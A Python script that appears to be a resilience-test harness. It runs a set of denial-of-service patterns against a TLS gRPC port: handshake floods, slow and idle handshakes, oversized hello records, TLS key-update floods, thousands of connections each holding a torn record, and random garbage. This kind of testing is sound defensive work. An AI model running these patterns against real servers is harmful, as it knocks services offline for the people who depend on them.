"""What hostile clients do to a gRPC port that speaks TLS: `tls_attacks.py NAME PORT SECONDS`, as attacks.py does to
others."""

import random
import resource
import ssl
import time

from attack_run import main, repeat
from frames import PREFACE, frame, settings
from key_updates import KeyUpdater

GARBAGE_SEED = 7
UNKNOWN_FRAME = 0xfa


def client_context():
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


def client_hello():
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = client_context().wrap_bio(incoming, outgoing)
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def idle_handshakes(run):
    """500 connections that say nothing, half of what begins a handshake, all of that, or what is no TLS."""
    hello = client_hello()
    attackers = []
    while run.goes_on() and len(attackers) < 500:
        if attacker := run.connect(preface=False):
            attackers.append(attacker)
            attacker.send([b"", hello[:100], hello, hello[:5]][len(attackers) % 4])
    run.hold(attackers)


def handshake_flood(run):
    """Beginnings of handshakes on one new connection after the other; the server has to sign an answer to each."""
    hello = client_hello()
    while run.goes_on():
        attackers = [attacker for attacker in (run.connect(preface=False) for _ in range(100)) if attacker]
        for attacker in attackers:
            attacker.send(hello)
        run.count("hellos", len(attackers))
        for attacker in attackers:
            try:
                run.count("answers", len(attacker.socket.recv(1)))
            except OSError:
                run.count("failed")
            attacker.close()


def whole_handshakes(run):
    """Handshakes that are finished and left, as of a client that is started again and again."""
    context = client_context()
    while run.goes_on():
        attacker = run.connect(preface=False)
        if not attacker:
            continue
        attacker.socket.settimeout(5)
        try:
            context.wrap_socket(attacker.socket).close()
            run.count("handshakes")
        except OSError:
            run.count("failed")


def slow_handshakes(run):
    """What begins a handshake, a byte at a time, on 300 connections."""
    hello = client_hello()
    attackers = [attacker for attacker in (run.connect(preface=False) for _ in range(300)) if attacker]
    for byte in hello:
        for attacker in attackers:
            attacker.send(bytes([byte]))
        run.count("bytes")
        if not run.goes_on():
            return
        time.sleep(0.05)


def endless_hello(run):
    """Records of a handshake message that does not end."""
    record = b"\x16\x03\x01\x40\x00"
    repeat(run, record + b"\x01\xff\xff\xff" + bytes(16380) + (record + bytes(16384)) * 3, "chunks", preface=False)


def key_updates(run):
    """Records that renew keys, as fast as they are taken, on one connection after the other."""
    while run.goes_on():
        if not (attacker := run.connect(preface=False)):
            continue
        try:
            client = KeyUpdater(attacker.socket)
            client.write(PREFACE + settings())
            while run.goes_on() and attacker.send(client.key_updates(500)) and attacker.skim():
                run.count("updates", 500)
        except OSError:
            run.count("failed")
        attacker.close()
        run.count("cut", run.goes_on())


def torn_records(run):
    """Connections that hold all but the last byte of a record as large as may be, and as many as they get."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    context = client_context()
    attackers = []
    run.begin()
    while run.goes_on() and len(attackers) < 5000:
        if not (attacker := run.connect(preface=False)):
            continue
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        client = context.wrap_bio(incoming, outgoing)
        try:
            while not shaken_hands(client):
                attacker.socket.sendall(outgoing.read())
                incoming.write(attacker.socket.recv(1 << 16))
            client.write(PREFACE + settings())
            attacker.socket.sendall(outgoing.read())
            client.write(frame(UNKNOWN_FRAME, 0, 0, bytes(16000)))
            attacker.socket.sendall(outgoing.read()[:-1])
        except OSError:
            run.count("failed")
            attacker.close()
            continue
        attackers.append(attacker)
        run.count("records")
    run.hold(attackers)


def shaken_hands(client):
    try:
        client.do_handshake()
        return True
    except ssl.SSLWantReadError:
        return False


def garbage(run):
    """Bytes that are no TLS, and a beginning that is with an end that is not."""
    source = random.Random(GARBAGE_SEED)
    hello = client_hello()
    while run.goes_on():
        if attacker := run.connect(preface=False):
            begin = source.choice([b"", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"GET / HTTP/1.1\r\n\r\n", hello,
                                   hello[:source.randrange(len(hello))]])
            attacker.send(begin + source.randbytes(source.randrange(1, 4096)))
            attacker.skim()
            attacker.close()


if __name__ == "__main__":
    main(globals())
